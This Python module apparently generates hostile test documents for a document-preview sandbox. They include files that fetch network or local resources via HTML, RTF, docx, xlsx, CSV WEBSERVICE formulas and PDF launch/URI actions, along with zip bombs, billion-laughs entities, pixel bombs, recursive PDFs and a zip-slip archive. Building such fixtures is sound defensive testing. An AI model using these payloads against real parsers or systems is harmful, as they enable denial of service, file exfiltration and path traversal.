"""Hostile documents, made here: they call, show files of the machine, explode, never end, or lie."""

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from .office_files import _package as package
from .office_files import letter, slides, workbook

MAGENTA = (255, 0, 255)
"""The colour of what must be on no page."""

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"


@dataclass(frozen=True)
class Machine:
    """What a document could reach: addresses that hear it, and files whose pixels are magenta."""

    http: str
    picture: Path
    page: Path

    @classmethod
    def of(cls, directory: Path, http: str) -> "Machine":
        picture, page = directory / "private.png", directory / "private.html"
        Image.new("RGB", (300, 300), MAGENTA).save(picture)
        page.write_text("<html><body bgcolor='#ff00ff'><p>private</p></body></html>", encoding="utf-8")
        return cls(http, picture, page)


def calling(machine: Machine) -> dict[str, bytes]:
    """Documents that fetch what their links name, over the network and from the machine's disk."""
    found: dict[str, bytes] = {}
    for kind, image, page in (
        ("net", f"{machine.http}/picture.png", f"{machine.http}/page.html"),
        ("disk", machine.picture.as_uri(), machine.page.as_uri()),
    ):
        web = _web(image, page)
        found |= {f"{kind}.html": web, f"{kind}-web.doc": web, f"{kind}-web.xls": web}
        found |= {f"{kind}-flat.doc": _flat_text(image, page), f"{kind}-flat.xls": _flat_sheet(image, page)}
        found |= {f"{kind}.rtf": _rtf(image, page), f"{kind}.docx": _docx(image, page)}
        found |= {f"{kind}.xlsx": _xlsx(image, page), f"{kind}.pptx": _pptx(image)}
        found |= {f"{kind}-svg.docx": _docx_with_svg(image), f"{kind}.csv": f'=WEBSERVICE("{page}"),x\n'.encode()}
        found[f"{kind}.pdf"] = _pdf_with_actions(page)
    return found


def relations(inside: Sequence[tuple[str, str, str]], outside: Sequence[tuple[str, str]] = ()) -> str:
    """Links of a part: (id, kind, part) within the package, and (kind, address) beyond it, whose id is the kind."""
    links = [
        f'<Relationship Id="{name}" Type="{_RELATIONS}/{kind}" Target="{target}"/>' for name, kind, target in inside
    ]
    links += [
        f'<Relationship Id="{kind}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind, target in outside
    ]
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{"".join(links)}</Relationships>'


def _web(image: str, page: str) -> bytes:
    return f"""<html><head><link rel=stylesheet href='{page}?link'><base target=x>
    <style>@import url('{page}?import'); p {{ background: url('{image}') }}</style><script src='{page}?script'></script>
    <meta http-equiv=refresh content='0; url={page}?refresh'></head><body background='{image}'>
    <p>text <img src='{image}' width=300 height=300><img srcset='{image}'><object data='{page}?object'></object>
    <embed src='{page}?embed'><iframe src='{page}?iframe' width=300 height=300></iframe>
    <table background='{image}'><tr><td background='{image}'>cell</table></body></html>""".encode()


def _rtf(image: str, page: str) -> bytes:
    fields = "".join(
        rf'{{\field{{\*\fldinst {name} "{target}" \\d}}{{\fldrslt x}}}}'
        for name, target in (("INCLUDEPICTURE", image), ("INCLUDETEXT", page), ("LINK Word.Document.8", page))
    )
    return rf"{{\rtf1\ansi{{\*\template {page}}}{fields} text\par}}".encode()


def _flat_text(image: str, page: str) -> bytes:
    body = (
        f'<text:section text:name="s"><text:section-source xlink:href="{page}" xlink:type="simple" xlink:show="embed"/>'
        f'<text:p>old</text:p></text:section><text:p>text<draw:frame svg:width="5cm" svg:height="5cm">'
        f'<draw:image xlink:href="{image}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>'
        f'<draw:frame svg:width="5cm" svg:height="5cm"><draw:floating-frame xlink:href="{page}"/></draw:frame></text:p>'
    )
    return _flat("text", body)


def _flat_sheet(image: str, page: str) -> bytes:
    body = (
        f'<table:table table:name="s"><table:table-source xlink:href="{page}" table:mode="copy-all"/>'
        f'<table:shapes><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="{image}"/></draw:frame>'
        f'</table:shapes><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{page}&quot;)"/>'
        f"<table:table-cell table:formula=\"of:='{page}'#$s.A1\"/></table:table-row></table:table>"
    )
    return _flat("spreadsheet", body)


def _flat(kind: str, body: str) -> bytes:
    names = ("office", "text", "table", "draw")
    spaces = " ".join(f'xmlns:{name}="{_ODF}:{name if name != "draw" else "drawing"}:1.0"' for name in names)
    spaces += f' xmlns:svg="{_ODF}:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    mime = f'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.{kind}"'
    text = f"<office:document {spaces} {mime}><office:body><office:{kind}>{body}</office:{kind}></office:body>"
    return f'<?xml version="1.0" encoding="UTF-8"?>{text}</office:document>'.encode()


def _docx(image: str, page: str) -> bytes:
    drawing = (
        '<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:200pt;height:200pt">'
        '<v:imagedata r:id="image"/></v:shape></w:pict></w:r>'
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "{image}" \\d </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>p</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    body = f'<w:altChunk r:id="aFChunk"/><w:p><w:subDoc r:id="subDocument"/><w:r><w:t>text</w:t></w:r>{drawing}</w:p>'
    links = [("image", image), ("aFChunk", page), ("subDocument", page), ("attachedTemplate", page)]
    return _word(body, links)


def _docx_with_svg(image: str) -> bytes:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="300">'
        f'<image xlink:href="{image}" width="300" height="300"/></svg>'
    )
    shape = (
        '<w:p><w:r><w:t>text</w:t></w:r><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:shape style="width:200pt;height:200pt"><v:imagedata r:id="svg"/></v:shape></w:pict></w:r></w:p>'
    )
    return _word(shape, [], {"word/media/picture.svg": svg}, inside=[("svg", "image", "media/picture.svg")])


def _word(
    body: str,
    outside: list[tuple[str, str]],
    more: Mapping[str, str] | None = None,
    inside: list[tuple[str, str, str]] | None = None,
) -> bytes:
    spaces = f'xmlns:w="{_WORD}" xmlns:r="{_RELATIONS}"'
    parts = {
        "word/document.xml": f"<w:document {spaces}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(inside or [], outside),
        **(more or {}),
    }
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return package(parts, {"word/document.xml": kind}, "word/document.xml")


def _xlsx(image: str, page: str) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    cells = (
        f'<c r="A1"><f>[1]Q!A1</f></c><c r="B1"><f>_xlfn.WEBSERVICE("{page}")</f></c>'
        f'<c r="C1" t="inlineStr"><is><t>text</t></is></c><c r="D1"><f>_xlfn.IMAGE("{image}")</f></c>'
    )
    book = f'xmlns="{_SHEET}" xmlns:r="{_RELATIONS}"'
    sheets = '<sheets><sheet name="S" sheetId="1" r:id="a"/></sheets>'
    outside = '<externalReferences><externalReference r:id="e"/></externalReferences><calcPr fullCalcOnLoad="1"/>'
    names = '<sheetNames><sheetName val="Q"/></sheetNames>'
    parts = {
        "xl/workbook.xml": f"<workbook {book}>{sheets}{outside}</workbook>",
        "xl/_rels/workbook.xml.rels": relations(
            [("a", "worksheet", "worksheets/sheet1.xml"), ("e", "externalLink", "externalLinks/e.xml")]
        ),
        "xl/externalLinks/e.xml": (
            f'<externalLink {book}><externalBook r:id="externalLinkPath">{names}</externalBook></externalLink>'
        ),
        "xl/externalLinks/_rels/e.xml.rels": relations([], [("externalLinkPath", page)]),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{_SHEET}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
        ),
    }
    types = {
        "xl/workbook.xml": f"{kind}.sheet.main+xml",
        "xl/worksheets/sheet1.xml": f"{kind}.worksheet+xml",
        "xl/externalLinks/e.xml": f"{kind}.externalLink+xml",
    }
    return package(parts, types, "xl/workbook.xml")


def _pptx(image: str) -> bytes:
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        '<p:blipFill><a:blip r:link="image"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="4000000" cy="4000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>'
    )
    return _replaced(
        slides(1),
        {
            "ppt/slides/slide1.xml": lambda text: text.replace("</p:spTree>", f"{picture}</p:spTree>"),
            "ppt/slides/_rels/slide1.xml.rels": lambda text: text.replace(
                "</Relationships>", relations([], [("image", image)]).partition(">")[2]
            ),
        },
    )


def _replaced(document: bytes, changes: Mapping[str, Callable[[str], str]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = old.read(name).decode()
            change = changes.get(name)
            new.writestr(name, change(text) if change else text)
    return out.getvalue()


def _pdf_with_actions(page: str) -> bytes:
    action = f"<</S/URI/URI({page})/Next<</S/Launch/F({page})/Next<</S/SubmitForm/F<</FS/URL/F({page})>>>>>>>>"
    image = (
        f"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceRGB/F({page})/Length 0>>"
    )
    leaf = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>"
    return pdf_of(
        [
            f"<</Type/Catalog/Pages 2 0 R/OpenAction{action}/AA<</WC{action}>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"{leaf}/AA<</O{action}>>>>",
            f"{image}stream\n\nendstream",
            "<</Length 30>>stream\nq 200 0 0 100 0 0 cm /X Do Q  \nendstream",
        ]
    )


def pdf_of(objects: list[str]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj%s endobj\n" % (number, content.encode("latin-1"))
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end


def endless_pdf(levels: int = 40, pages: int = 1) -> bytes:
    """Pages that draw a form twice, which draws the next form twice, and so on: of each level, twice as many."""
    resources = "/Resources<</XObject<</X %d 0 R>>>>"
    forms = [
        f"<</Type/XObject/Subtype/Form/BBox[0 0 200 100]{resources % (5 + level)}/Length 12>>"
        "stream\n/X Do /X Do \nendstream"
        for level in range(levels)
    ]
    last = "<</Type/XObject/Subtype/Form/BBox[0 0 200 100]/Length 14>>stream\n0 0 9 9 re f  \nendstream"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 40 40]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>>>>>"
    tree = f"<</Type/Pages/Kids[{' 3 0 R' * pages}]/Count {pages}>>"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", tree, page, *forms, last])


def slow_pdf() -> bytes:
    """Five thousand small pages that take half a second each, in little memory."""
    return endless_pdf(17, 5000)


def noise_pdf(side: int) -> bytes:
    """A page whose picture of noise, of so many pixels in width and height, is as large as a picture file."""
    image = Image.effect_noise((side, side), 200).convert("RGB")
    file = io.BytesIO()
    image.save(file, "pdf")
    return file.getvalue()


def picture_bomb() -> bytes:
    """A small PNG of 30,000 by 30,000 pixels."""
    file = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(file, "png", optimize=False)
    return file.getvalue()


def page_of_size(width: float, height: float, pages: int = 1) -> bytes:
    """A PDF whose pages have this size in points, so many pages."""
    kids = " ".join(f"{number} 0 R" for number in range(3, 3 + pages))
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {width} {height}]>>"
    return pdf_of(["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count {pages}>>", *[page] * pages])


def zip_bomb(mebibytes: int, *, declared: int | None = None) -> bytes:
    """A docx whose text unpacks to so many MiB; its directory may tell another number of bytes."""
    body = letter(["text"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        with new.open("word/media/x.bin", "w", force_zip64=True) as file:
            for _ in range(mebibytes):
                file.write(bytes(2**20))
        if declared is not None:
            new.getinfo("word/media/x.bin").file_size = declared
    return out.getvalue()


def entities(suffix: str = "docx") -> bytes:
    """A document whose few entities would unfold to a billion words."""
    rows = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE d [<!ENTITY e0 "laugh ">{rows}]>'
    body = f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert suffix == "docx"
    return package({"word/document.xml": text + body}, {"word/document.xml": kind}, "word/document.xml")


def far_cells() -> bytes:
    """A workbook with a cell in the last row and column: millions of empty pages between."""
    return _replaced(
        workbook({"Far": [["a"]]}),
        {
            "xl/worksheets/sheet1.xml": lambda text: text.replace(
                "</sheetData>",
                '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row></sheetData>',
            )
        },
    )


def slow_workbook(rows: int = 30_000) -> bytes:
    """A workbook each of whose cells sums up all others again."""
    cells = "".join(
        f"<row><c><f>SUMPRODUCT(ROW($A$1:$A${rows})*(ROW($B$1:$B${rows})&gt;{n}))</f></c></row>" for n in range(rows)
    )
    return _replaced(
        workbook({"Slow": [["a"]]}),
        {
            "xl/workbook.xml": lambda text: text.replace("</workbook>", '<calcPr fullCalcOnLoad="1"/></workbook>'),
            "xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", f"{cells}</sheetData>"),
        },
    )


def exploding() -> dict[str, bytes]:
    """Small documents that become large, deep or without end."""
    spaces = zlib.compress(b" " * 2**26, 9)
    content = f"<</Filter/FlateDecode/Length {len(spaces)}>>stream\n{spaces.decode('latin-1')}\nendstream"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R>>"
    head = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    huge = "<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 1>>"
    shown = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>>>"
    draw = "<</Length 30>>stream\nq 200 0 0 100 0 0 cm /X Do Q  \nendstream"
    return {
        "entities.docx": entities(),
        "far.xlsx": far_cells(),
        "deep.html": b"<html><body>" + b"<table><tr><td>" * 20_000,
        "deep.rtf": rb"{\rtf1 " + b"{" * 200_000 + b"x",
        "spaces.pdf": pdf_of([*head, page, content]),
        "image.pdf": pdf_of([*head, shown, f"{huge}stream\nx\nendstream", draw]),
        "many.pdf": page_of_size(20_000, 20_000, 50),
    }


def lying() -> dict[str, bytes]:
    """Documents that are not what they say."""
    picture = io.BytesIO()
    Image.new("RGB", (9, 9)).save(picture, "png")
    whole = letter(["text"])
    loop = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 9>>"]
    return {
        "picture.pdf": picture.getvalue(),
        "pdf.docx": page_of_size(200, 100),
        "docx.pdf": whole,
        "xlsx.doc": workbook({"A": [["a"]]}),
        "program.xls": b"\x7fELF" + bytes(5000),
        "cut.pptx": slides(1)[:-40],
        "less.docx": zip_bomb(4, declared=10),
        "loop.pdf": pdf_of(loop),
        "outside.docx": _outside(whole),
    }


def _outside(document: bytes) -> bytes:
    out = io.BytesIO(document)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../../../../../tmp/docpreview-outside", "x")
        archive.writestr("/tmp/docpreview-outside", "x")  # noqa: S108
    return out.getvalue()
